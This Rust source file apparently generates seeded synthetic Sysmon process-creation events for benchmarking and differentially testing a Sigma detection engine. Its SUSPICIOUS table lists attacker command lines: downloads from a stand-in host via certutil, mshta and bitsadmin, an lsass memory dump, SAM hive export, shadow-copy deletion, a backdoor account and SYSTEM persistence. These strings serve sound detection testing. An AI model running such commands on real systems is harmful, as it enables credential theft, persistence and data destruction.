//! Sysmon-like Windows process creation events, generated from a fixed seed: common benign
//! programs with varied arguments, users and ids, and about 1% suspicious command lines of the
//! kinds SigmaHQ's process_creation rules look for. Shared by the Sigma bench and the
//! differential test against RSigma.

#![allow(dead_code)]

/// A small deterministic generator (xorshift64*).
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed.max(1))
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    pub fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }

    fn guid(&mut self) -> String {
        let a = self.next_u64();
        let b = self.next_u64();
        format!(
            "{{{:08X}-{:04X}-{:04X}-{:04X}-{:012X}}}",
            a >> 32,
            (a >> 16) & 0xFFFF,
            a & 0xFFFF,
            b >> 48,
            b & 0xFFFF_FFFF_FFFF
        )
    }
}

/// One event's Sysmon event-data fields (plus `EventID` and `Channel`).
pub type ProcessEvent = Vec<(&'static str, String)>;

const USERS: [&str; 6] = ["alice", "bob", "carol", "svc_build", "dave", "erin"];

struct Program {
    image: &'static str,
    original: &'static str,
    description: &'static str,
    company: &'static str,
    parent: &'static str,
    args: &'static [&'static str],
}

const BENIGN: [Program; 14] = [
    Program {
        image: r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        original: "chrome.exe",
        description: "Google Chrome",
        company: "Google LLC",
        parent: r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        args: &[
            "--type=renderer --field-trial-handle={n},i,{n} --lang=en-US --renderer-client-id={n} /prefetch:1",
            "--type=gpu-process --gpu-preferences={n}",
            "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US",
        ],
    },
    Program {
        image: r"C:\Windows\System32\svchost.exe",
        original: "svchost.exe",
        description: "Host Process for Windows Services",
        company: "Microsoft Corporation",
        parent: r"C:\Windows\System32\services.exe",
        args: &[
            "-k netsvcs -p -s Schedule",
            "-k LocalServiceNetworkRestricted -p",
            "-k DcomLaunch -p",
            "-k UnistackSvcGroup",
        ],
    },
    Program {
        image: r"C:\Windows\System32\conhost.exe",
        original: "CONHOST.EXE",
        description: "Console Window Host",
        company: "Microsoft Corporation",
        parent: r"C:\Windows\System32\cmd.exe",
        args: &["0xffffffff -ForceV1"],
    },
    Program {
        image: r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe",
        original: "electron.exe",
        description: "Visual Studio Code",
        company: "Microsoft Corporation",
        parent: r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe",
        args: &[
            "--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none",
            "--type=renderer --enable-sandbox --app-path=\"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\resources\\app\"",
        ],
    },
    Program {
        image: r"C:\Program Files\Git\cmd\git.exe",
        original: "git.exe",
        description: "Git for Windows",
        company: "The Git Development Community",
        parent: r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe",
        args: &[
            "status --porcelain",
            "fetch origin",
            "log --oneline -n {n}",
            "rev-parse HEAD",
        ],
    },
    Program {
        image: r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        original: "msedge.exe",
        description: "Microsoft Edge",
        company: "Microsoft Corporation",
        parent: r"C:\Windows\explorer.exe",
        args: &[
            "--type=renderer --lang=en-US --js-flags=--ms-user-locale= --renderer-client-id={n}",
            "--profile-directory=Default",
        ],
    },
    Program {
        image: r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe",
        original: "OneDrive.exe",
        description: "Microsoft OneDrive",
        company: "Microsoft Corporation",
        parent: r"C:\Windows\explorer.exe",
        args: &["/background", "/updateInstalled /background"],
    },
    Program {
        image: r"C:\Windows\System32\RuntimeBroker.exe",
        original: "RuntimeBroker.exe",
        description: "Runtime Broker",
        company: "Microsoft Corporation",
        parent: r"C:\Windows\System32\svchost.exe",
        args: &["-Embedding"],
    },
    Program {
        image: r"C:\Windows\System32\SearchProtocolHost.exe",
        original: "searchprotocolhost.exe",
        description: "Microsoft Windows Search Protocol Host",
        company: "Microsoft Corporation",
        parent: r"C:\Windows\System32\SearchIndexer.exe",
        args: &[
            "Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\"",
        ],
    },
    Program {
        image: r"C:\Windows\System32\dllhost.exe",
        original: "dllhost.exe",
        description: "COM Surrogate",
        company: "Microsoft Corporation",
        parent: r"C:\Windows\System32\svchost.exe",
        args: &["/Processid:{guid}"],
    },
    Program {
        image: r"C:\Windows\System32\taskhostw.exe",
        original: "taskhostw.exe",
        description: "Host Process for Windows Tasks",
        company: "Microsoft Corporation",
        parent: r"C:\Windows\System32\svchost.exe",
        args: &["", "Install $(Arg0)"],
    },
    Program {
        image: r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        original: "Wmiprvse.exe",
        description: "WMI Provider Host",
        company: "Microsoft Corporation",
        parent: r"C:\Windows\System32\svchost.exe",
        args: &["-Embedding", "-secured -Embedding"],
    },
    Program {
        image: r"C:\Program Files\Python312\python.exe",
        original: "python.exe",
        description: "Python",
        company: "Python Software Foundation",
        parent: r"C:\Windows\System32\cmd.exe",
        args: &[
            "C:\\Users\\{user}\\src\\tool\\main.py --verbose",
            "-m pip list",
            "manage.py runserver 8000",
        ],
    },
    Program {
        image: r"C:\Program Files\nodejs\node.exe",
        original: "node.exe",
        description: "Node.js JavaScript Runtime",
        company: "Node.js",
        parent: r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe",
        args: &[
            "C:\\Users\\{user}\\src\\web\\node_modules\\vite\\bin\\vite.js",
            "server.js --port {n}",
        ],
    },
];

const SUSPICIOUS: [(&str, &str, &str, &str); 10] = [
    (
        r"C:\Windows\System32\whoami.exe",
        "whoami.exe",
        r"C:\Windows\System32\cmd.exe",
        "whoami /all",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "PowerShell.EXE",
        r"C:\Windows\System32\cmd.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        "CertUtil.exe",
        r"C:\Windows\System32\cmd.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        "RUNDLL32.EXE",
        r"C:\Windows\System32\cmd.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
    ),
    (
        r"C:\Windows\System32\vssadmin.exe",
        "VSSADMIN.EXE",
        r"C:\Windows\System32\cmd.exe",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    (
        r"C:\Windows\System32\net.exe",
        "net.exe",
        r"C:\Windows\System32\cmd.exe",
        "net.exe user backdoor P@ssw0rd! /add",
    ),
    (
        r"C:\Windows\System32\schtasks.exe",
        "schtasks.exe",
        r"C:\Windows\System32\cmd.exe",
        "schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon /ru System",
    ),
    (
        r"C:\Windows\System32\mshta.exe",
        "MSHTA.EXE",
        r"C:\Windows\explorer.exe",
        "mshta.exe http://198.51.100.7/x.hta",
    ),
    (
        r"C:\Windows\System32\reg.exe",
        "reg.exe",
        r"C:\Windows\System32\cmd.exe",
        "reg.exe save HKLM\\SAM C:\\temp\\sam.save",
    ),
    (
        r"C:\Windows\System32\bitsadmin.exe",
        "bitsadmin.exe",
        r"C:\Windows\System32\cmd.exe",
        "bitsadmin.exe /transfer job /download /priority high http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe",
    ),
];

fn fill(template: &str, rng: &mut Rng, user: &str) -> String {
    let mut text = template.replace("{user}", user);
    while let Some(at) = text.find("{n}") {
        text.replace_range(at..at + 3, &(rng.below(90_000) + 1_000).to_string());
    }
    if text.contains("{guid}") {
        text = text.replace("{guid}", &rng.guid());
    }
    text
}

/// `count` events from `seed`; about one in a hundred is suspicious.
pub fn process_events(count: usize, seed: u64) -> Vec<ProcessEvent> {
    let mut rng = Rng::new(seed);
    let mut events = Vec::with_capacity(count);
    for _ in 0..count {
        let user = rng.pick(&USERS);
        let (image, original, description, company, parent, command_line) = if rng.below(100) == 0 {
            let (image, original, parent, command) = SUSPICIOUS[rng.below(SUSPICIOUS.len())];
            (
                image.to_string(),
                original,
                "",
                "Microsoft Corporation",
                parent.to_string(),
                command.to_string(),
            )
        } else {
            let program = &BENIGN[rng.below(BENIGN.len())];
            let image = fill(program.image, &mut rng, user);
            let args = fill(rng.pick(program.args), &mut rng, user);
            let command_line = format!("\"{image}\" {args}").trim_end().to_string();
            let parent = fill(program.parent, &mut rng, user);
            (
                image,
                program.original,
                program.description,
                program.company,
                parent,
                command_line,
            )
        };
        let guid = rng.guid();
        let parent_guid = rng.guid();
        events.push(vec![
            ("EventID", "1".to_string()),
            (
                "Channel",
                "Microsoft-Windows-Sysmon/Operational".to_string(),
            ),
            ("ProcessGuid", guid),
            ("ProcessId", rng.below(60_000).to_string()),
            ("Image", image),
            ("FileVersion", "10.0.22621.1".to_string()),
            ("Description", description.to_string()),
            (
                "Product",
                "Microsoft® Windows® Operating System".to_string(),
            ),
            ("Company", company.to_string()),
            ("OriginalFileName", original.to_string()),
            ("CommandLine", command_line),
            ("CurrentDirectory", format!("C:\\Users\\{user}\\")),
            ("User", format!("CORP\\{user}")),
            ("LogonId", format!("0x{:x}", rng.below(1 << 24))),
            (
                "IntegrityLevel",
                rng.pick(&["Medium", "High", "System"]).to_string(),
            ),
            (
                "Hashes",
                format!("SHA256={:016X}{:016X}", rng.next_u64(), rng.next_u64()),
            ),
            ("ParentProcessGuid", parent_guid),
            ("ParentProcessId", rng.below(60_000).to_string()),
            ("ParentImage", parent.clone()),
            ("ParentCommandLine", format!("\"{parent}\"")),
            ("ParentUser", format!("CORP\\{user}")),
        ]);
    }
    events
}
